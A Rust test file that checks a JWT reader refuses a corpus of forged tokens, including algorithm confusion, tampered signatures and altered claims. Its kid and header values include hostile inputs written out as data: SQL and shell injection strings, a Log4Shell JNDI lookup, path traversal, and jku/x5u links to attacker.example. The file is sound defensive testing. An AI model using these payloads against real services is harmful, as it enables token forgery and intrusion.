//! Tokens that must be refused, whoever made them.
#![expect(clippy::unwrap_used, clippy::indexing_slicing, reason = "helpers of tests may fail loudly")]

mod common;

use common::*;
use data_encoding::BASE64;
use epic_domain::session::TokenKind;
use epic_outbound::tokens::Tokens;
use proptest::prelude::*;

fn header(alg: &str) -> String {
    format!(r#"{{"typ":"JWT","alg":"{alg}","kid":"k1"}}"#)
}

fn unsigned(header: &str) -> String {
    format!("{}.{}.", encoded(header), encoded(PAYLOAD))
}

/// Another algorithm than HS256, signed with the server's key all the same, or not at all.
fn other_algorithms() -> Vec<String> {
    let none = ["none", "None", "NONE", "nOnE", "none ", " none", "", "null", "N\u{f6}ne"];
    let other = [
        "HS384",
        "HS512",
        "RS256",
        "RS384",
        "RS512",
        "PS256",
        "PS512",
        "ES256",
        "ES384",
        "ES512",
        "ES256K",
        "EdDSA",
        "Ed25519",
        "dir",
        "A256KW",
        "hs256",
        "Hs256",
        "HS256 ",
        " HS256",
        "HS256\\u0000",
        "HS2\\u0035\\u0036",
        "HMACSHA256",
        "HS1",
    ];
    let mut forged: Vec<String> = none.iter().map(|alg| unsigned(&header(alg))).collect();
    forged.extend(none.iter().chain(&other).map(|alg| signed(header(alg), PAYLOAD)));
    for alg in [r"null", "256", "true", r#"["HS256"]"#, r#"{"alg":"HS256"}"#] {
        forged.push(signed(format!(r#"{{"typ":"JWT","alg":{alg},"kid":"k1"}}"#), PAYLOAD));
    }
    forged.push(signed(r#"{"typ":"JWT","kid":"k1"}"#, PAYLOAD));
    forged
}

/// Names of keys that are paths, queries, addresses or worse.
fn key_tricks() -> Vec<String> {
    let names = [
        "",
        "K1",
        "k1 ",
        " k1",
        "k2",
        "k1\\u0000",
        "k1\\u0000.pem",
        "\\u006b1",
        "../../../../dev/null",
        "/dev/null",
        "..\\\\..\\\\k1",
        "file:///dev/null",
        "https://attacker.example/key",
        "k1' OR '1'='1",
        "x' UNION SELECT 'secret' --",
        "k1;sleep 5",
        "$(id)",
        "${jndi:ldap://attacker.example}",
        "k1\\nk2",
        "k\\u0131",
        "*",
        "%",
    ];
    let mut forged: Vec<String> = names
        .iter()
        .map(|kid| signed(format!(r#"{{"typ":"JWT","alg":"HS256","kid":"{kid}"}}"#), PAYLOAD))
        .collect();
    for kid in ["null", "1", "true", r#"["k1"]"#, r#"{"k1":1}"#] {
        forged.push(signed(format!(r#"{{"typ":"JWT","alg":"HS256","kid":{kid}}}"#), PAYLOAD));
    }
    forged.push(signed(r#"{"typ":"JWT","alg":"HS256"}"#, PAYLOAD));
    // The key that an empty or unreadable file would be.
    forged.push(signed_with(b"", r#"{"typ":"JWT","alg":"HS256","kid":"/dev/null"}"#, PAYLOAD));
    forged
}

/// Header parameters that ask a reader to trust something in the token.
fn header_parameters() -> Vec<String> {
    let extras = [
        r#""jwk":{"kty":"oct","k":"AAAA"}"#,
        r#""jku":"https://attacker.example/jwks.json""#,
        r#""x5u":"https://attacker.example/cert.pem""#,
        r#""x5c":["AAAA"]"#,
        r#""x5t":"AAAA""#,
        r#""x5t#S256":"AAAA""#,
        r#""crit":["exp"]"#,
        r#""crit":[]"#,
        r#""crit":["b64"],"b64":false"#,
        r#""b64":true"#,
        r#""zip":"DEF""#,
        r#""enc":"A128GCM""#,
        r#""cty":"JWT""#,
        r#""nonce":"1""#,
        r#""url":"https://epic.example""#,
        r#""iss":"epic-server""#,
        r#""alg":"none""#,
        r#""alg":"HS256""#,
        r#""kid":"k1""#,
        r#""typ":"JWT""#,
        r#""x":1"#,
    ];
    let mut forged: Vec<String> = extras
        .iter()
        .map(|extra| signed(format!(r#"{{"typ":"JWT","alg":"HS256","kid":"k1",{extra}}}"#), PAYLOAD))
        .collect();
    for typ in [r#""jwt""#, r#""JWS""#, r#""at+jwt""#, r#""application/jwt""#, r#""""#, "null", "1"] {
        forged.push(signed(format!(r#"{{"typ":{typ},"alg":"HS256","kid":"k1"}}"#), PAYLOAD));
    }
    for whole in
        ["", "{}", "null", "[]", "1", r#""HS256""#, "{", r#"{"alg":"HS256"}"#, r#"["HS256","JWT","k1"]"#]
    {
        forged.push(signed(whole, PAYLOAD));
    }
    forged.push(signed(format!("{HEADER}{HEADER}"), PAYLOAD));
    forged.push(signed(format!("\u{feff}{HEADER}"), PAYLOAD));
    forged.push(signed(HEADER.replacen('}', &format!("{}}}", " ".repeat(300)), 1), PAYLOAD));
    forged.push(signed(HEADER.replace('"', "'"), PAYLOAD));
    forged.push(signed([HEADER.as_bytes(), b"\xff"].concat(), PAYLOAD));
    forged
}

/// Signatures that are missing, cut, doubled, of another key or of another spelling.
fn signatures_and_spellings() -> Vec<String> {
    let good = access_token();
    let parts: Vec<&str> = good.split('.').collect();
    let (head, payload, signature) = (parts[0], parts[1], parts[2]);
    let message = format!("{head}.{payload}");
    let last = signature.chars().last().unwrap();
    let mut forged = vec![
        format!("{message}."),
        message.clone(),
        format!("{message}.{}", &signature[..signature.len() - 1]),
        format!("{message}.{}", &signature[..22]),
        format!("{message}.{signature}{signature}"),
        format!("{message}.{signature}="),
        format!("{message}.{signature}=="),
        format!("{message}.{signature}."),
        format!("{message}.{signature}.{signature}"),
        format!(".{good}"),
        format!("{good}.."),
        format!("{message}..{signature}"),
        format!("{head}..{signature}"),
        format!(".{payload}.{signature}"),
        format!(" {good}"),
        format!("{good} "),
        format!("{good}\n"),
        format!("{good}\0"),
        format!("{message}\n.{signature}"),
        format!("{message}. {signature}"),
        format!("Bearer {good}"),
        format!("\"{good}\""),
        format!("{good},{good}"),
        good.replace('.', "%2E"),
        good.replace('.', "\u{3002}"),
        good.to_uppercase(),
        good.to_lowercase(),
        format!("{message}.{}", encoded([0; 32])),
        format!("{message}.{}", encoded([0xff; 32])),
        format!("{message}.{}", encoded(b"")),
        format!("{message}.{}", hs256(OTHER_SECRET, &message)),
        format!("{message}.{}", hs256(b"", &message)),
        format!("{message}.{}", hs256(SECRET, payload)),
        format!("{message}.{}", hs256(SECRET, &format!("{message}."))),
        format!("{head}=.{payload}.{}", hs256(SECRET, &format!("{head}=.{payload}"))),
        format!("{head}.{payload}=.{}", hs256(SECRET, &format!("{head}.{payload}="))),
        format!("{head}.{payload}\n.{}", hs256(SECRET, &format!("{head}.{payload}\n"))),
        format!("{payload}.{head}.{}", hs256(SECRET, &format!("{payload}.{head}"))),
        r#"{"payload":"","protected":"","signature":""}"#.to_owned(),
        ".".to_owned(),
        "..".to_owned(),
        "...".to_owned(),
        String::new(),
    ];
    // The last character of a 32-byte signature has two bits to spare; only one of its four spellings is canonical.
    for other in "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_+/=".chars() {
        if other != last {
            forged.push(format!("{message}.{}{other}", &signature[..signature.len() - 1]));
        }
    }
    // The alphabet of plain base64, with bytes that show it, and signed as it stands.
    let spelled = BASE64.encode(payload_with("alice", "al??~~ce").as_bytes());
    let plain = format!("{head}.{}", spelled.trim_end_matches('='));
    assert!(plain.contains('/') || plain.contains('+'));
    forged.push(format!("{plain}.{}", hs256(SECRET, &plain)));
    forged
}

/// Payloads that are no claims of ours, signed with the server's key.
fn other_claims() -> Vec<String> {
    let uuid = "01010101-0101-0101-0101-010101010101";
    let replaced = [
        (r#""iss":"epic-server""#, r#""iss":"epic""#),
        (r#""iss":"epic-server""#, r#""iss":"EPIC-SERVER""#),
        (r#""iss":"epic-server""#, r#""iss":["epic-server"]"#),
        (r#""iss":"epic-server""#, r#""iss":null"#),
        (r#""iss":"epic-server","#, ""),
        (r#""aud":"epic""#, r#""aud":"epic2""#),
        (r#""aud":"epic""#, r#""aud":["epic"]"#),
        (r#""aud":"epic""#, r#""aud":["other","epic"]"#),
        (r#""aud":"epic""#, r#""aud":null"#),
        (r#""aud":"epic","#, ""),
        (r#""type":"access""#, r#""type":"Access""#),
        (r#""type":"access""#, r#""type":"id""#),
        (r#""type":"access""#, r#""type":null"#),
        (r#""type":"access""#, r#""type":["access"]"#),
        (r#""type":"access""#, r#""type":{"access":null}"#),
        (r#""type":"access","#, ""),
        (r#""type":"access""#, r#""type":"access","type":"refresh""#),
        (r#""sub":"alice""#, r#""sub":"Alice""#),
        (r#""sub":"alice""#, r#""sub":"al""#),
        (r#""sub":"alice""#, r#""sub":"../alice""#),
        (r#""sub":"alice""#, r#""sub":"alice\u0000""#),
        (r#""sub":"alice""#, r#""sub":"аlice""#),
        (r#""sub":"alice""#, r#""sub":1"#),
        (r#""sub":"alice""#, r#""sub":["alice"]"#),
        (r#""sub":"alice""#, r#""sub":"alice","sub":"admin""#),
        (r#""sub":"alice""#, r#""sub":"admin","sub":"alice""#),
        (r#""sub":"alice","#, ""),
        (r#""data":{"#, r#""nbf":1,"data":{"#),
        (r#""data":{"#, r#""nbf":"x","data":{"#),
        (r#""data":{"#, r#""admin":true,"data":{"#),
        (r#""data":{"#, r#""Exp":1,"data":{"#),
        (r#""data":{"#, r#""__proto__":{},"data":{"#),
        (r#""data":{"#, r#""data":{"user_id":"01010101-0101-0101-0101-010101010101"},"data":{"#),
        (r#""data":{"#, r#""data":{"role":"admin","#),
        (r#"{"user_id":"01010101-0101-0101-0101-010101010101"}"#, "{}"),
        (r#"{"user_id":"01010101-0101-0101-0101-010101010101"}"#, "null"),
        (
            r#"{"user_id":"01010101-0101-0101-0101-010101010101"}"#,
            r#"["01010101-0101-0101-0101-010101010101"]"#,
        ),
        (uuid, "0101010101010101010101010101010101"),
        (uuid, "{01010101-0101-0101-0101-010101010101}"),
        (uuid, "urn:uuid:01010101-0101-0101-0101-010101010101"),
        (uuid, ""),
        ("02020202-0202", "0202020Z-0202"),
        ("03030303-0303-0303-0303-030303030303", "1"),
        (r#""session_id":"02020202-0202-0202-0202-020202020202","#, ""),
        (r#""jti":"03030303-0303-0303-0303-030303030303","#, ""),
    ];
    let mut forged: Vec<String> =
        replaced.iter().map(|(from, to)| signed(HEADER, payload_with(from, to))).collect();
    for whole in ["{}", "null", "[]", "1", r#""alice""#, "{", "tru", ""] {
        forged.push(signed(HEADER, whole));
    }
    let (user, session, token) =
        (uuid, "02020202-0202-0202-0202-020202020202", "03030303-0303-0303-0303-030303030303");
    forged.push(signed(HEADER, format!(r#"["alice",1800000000,1800001800,"access","{session}","{token}","epic-server","epic",1799999000,{{"user_id":"{user}"}}]"#)));
    forged.push(signed(HEADER, format!("[{PAYLOAD}]")));
    forged.push(signed(HEADER, format!("{PAYLOAD}{PAYLOAD}")));
    forged.push(signed(HEADER, format!("{PAYLOAD},")));
    forged.push(signed(HEADER, format!("\u{feff}{PAYLOAD}")));
    forged.push(signed(HEADER, [b"\xff\xfe".as_slice(), PAYLOAD.as_bytes()].concat()));
    // A token inside a token, and claims that are too much of everything.
    forged.push(signed(HEADER, access_token()));
    forged.push(signed(HEADER, format!(r#""{}""#, access_token())));
    forged.push(signed(
        HEADER,
        payload_with(r#""data":{"#, &format!(r#""x":{}1{},"data":{{"#, "[".repeat(500), "]".repeat(500))),
    ));
    forged.push(signed(HEADER, payload_with("alice", &"a".repeat(3_000))));
    forged.push(signed(HEADER, format!("{}{PAYLOAD}", " ".repeat(4_000))));
    forged
}

fn corpus() -> Vec<String> {
    [other_algorithms(), key_tricks(), header_parameters(), signatures_and_spellings(), other_claims()]
        .concat()
}

#[test]
fn a01_the_corpus_is_refused_to_the_last_token() {
    let tokens = tokens();
    let corpus = corpus();
    assert!(corpus.len() >= 200, "{} tokens", corpus.len());
    for token in &corpus {
        assert!(refuses(&tokens, token), "{token}");
    }
    assert_eq!(tokens.cached_tokens(), 0);
}

#[test]
fn a01_the_corpus_is_refused_by_a_reader_that_has_seen_the_genuine_token() {
    let tokens = tokens();
    tokens.read(&access_token()).unwrap();
    for token in &corpus() {
        assert!(refuses(&tokens, token), "{token}");
    }
    assert_eq!(tokens.cached_tokens(), 1);
}

#[test]
fn a01_the_controls_are_accepted() {
    assert!(tokens().read(&access_token()).is_ok());
    assert!(tokens().read(&signed(HEADER, PAYLOAD)).is_ok());
}

#[test]
fn a05_mistyped_and_missing_times_are_refused() {
    let tokens = tokens();
    let values = [
        "\"1800001800\"",
        "1800001800.0",
        "1800001800.5",
        "1.8e9",
        "18e8",
        "-1",
        "-0",
        "true",
        "false",
        "null",
        "[1800001800]",
        "{}",
        "\"\"",
        "\"never\"",
        "253402300800",
        "18446744073709551615",
        "18446744073709551616",
        "1e999",
        "01",
        "0x10",
        "NaN",
        "Infinity",
    ];
    let times = [
        ("iat", "\"iat\":1800000000"),
        ("exp", "\"exp\":1800001800"),
        ("auth_time", "\"auth_time\":1799999000"),
    ];
    for (name, member) in times {
        for value in values {
            let payload = payload_with(member, &format!("\"{name}\":{value}"));
            assert!(refuses(&tokens, &signed(HEADER, &payload)), "{payload}");
        }
        let missing = payload_with(&format!("{member},"), "");
        assert!(refuses(&tokens, &signed(HEADER, &missing)), "{missing}");
        let twice = payload_with(member, &format!("{member},{member}"));
        assert!(refuses(&tokens, &signed(HEADER, &twice)), "{twice}");
    }
    for nbf in ["1", "\"1\"", "1.5", "null", "true", "[]", "18446744073709551615"] {
        let payload = payload_with("\"data\"", &format!("\"nbf\":{nbf},\"data\""));
        assert!(refuses(&tokens, &signed(HEADER, &payload)), "{payload}");
    }
}

#[test]
fn a03_a_token_whose_kind_was_changed_is_refused() {
    let tokens = tokens();
    let refresh = tokens.issue(&claims(TokenKind::Refresh), &key_id("k1")).unwrap();
    let (_, signature) = refresh.expose().rsplit_once('.').unwrap();
    assert!(refuses(&tokens, &format!("{}.{}.{signature}", encoded(HEADER), encoded(PAYLOAD))));
}

#[test]
fn a_token_past_the_length_is_refused_unread() {
    assert!(refuses(&tokens(), &"a".repeat(epic_token_jwt::TOKEN_BYTES_MAX + 1)));
    let roomy = format!("{PAYLOAD}{}", " ".repeat(3_000));
    assert!(refuses(&tokens(), &signed(HEADER, roomy)));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2_000))]

    #[test]
    fn with_any_one_character_changed_a_token_is_refused(
        place in any::<prop::sample::Index>(),
        replacement in prop::char::range(' ', '~'),
    ) {
        let good = access_token();
        let mut characters: Vec<char> = good.chars().collect();
        let at = place.index(characters.len());
        prop_assume!(characters[at] != replacement);
        characters[at] = replacement;
        prop_assert!(refuses(&tokens(), &characters.into_iter().collect::<String>()));
    }

    #[test]
    fn with_any_one_character_missing_or_doubled_a_token_is_refused(place in any::<prop::sample::Index>()) {
        let good = access_token();
        let at = place.index(good.len());
        let missing = [&good[..at], &good[at + 1..]].concat();
        prop_assert!(refuses(&tokens(), &missing));
        let doubled = [&good[..=at], &good[at..]].concat();
        prop_assert!(refuses(&tokens(), &doubled));
    }

    #[test]
    fn no_text_makes_it_panic(text in any::<String>()) {
        prop_assert!(refuses(&tokens(), &text));
    }

    #[test]
    fn no_signed_bytes_make_it_panic(
        header in proptest::collection::vec(any::<u8>(), 0..80),
        payload in proptest::collection::vec(any::<u8>(), 0..200),
    ) {
        prop_assert!(refuses(&tokens(), &signed(header, &payload)));
        prop_assert!(refuses(&tokens(), &signed(HEADER, &payload)));
    }
}

#[test]
fn every_single_place_of_a_token_counts() {
    let tokens = tokens();
    let good = access_token();
    for at in 0..good.len() {
        for replacement in ["A", "B", "-", "=", ".", " "] {
            if good[at..=at] != *replacement {
                let changed = format!("{}{replacement}{}", &good[..at], &good[at + 1..]);
                assert!(refuses(&tokens, &changed), "{changed}");
            }
        }
    }
}
